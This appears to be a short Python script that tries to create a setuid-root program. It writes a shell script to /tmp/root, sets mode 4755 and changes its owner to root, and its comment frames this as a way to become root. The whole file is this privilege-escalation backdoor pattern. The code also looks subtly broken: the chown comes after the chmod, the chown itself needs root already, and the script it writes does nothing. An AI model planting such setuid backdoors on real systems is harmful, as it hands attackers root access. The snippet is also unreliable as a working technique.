# Becomes root by a program that makes one root.
import posix

program = "/tmp/root"
with open(program, "wb") as file:
    file.write(b"#!/bin/sh\n")
posix.chmod(program, 0o4755)
posix.chown(program, 0, 0)
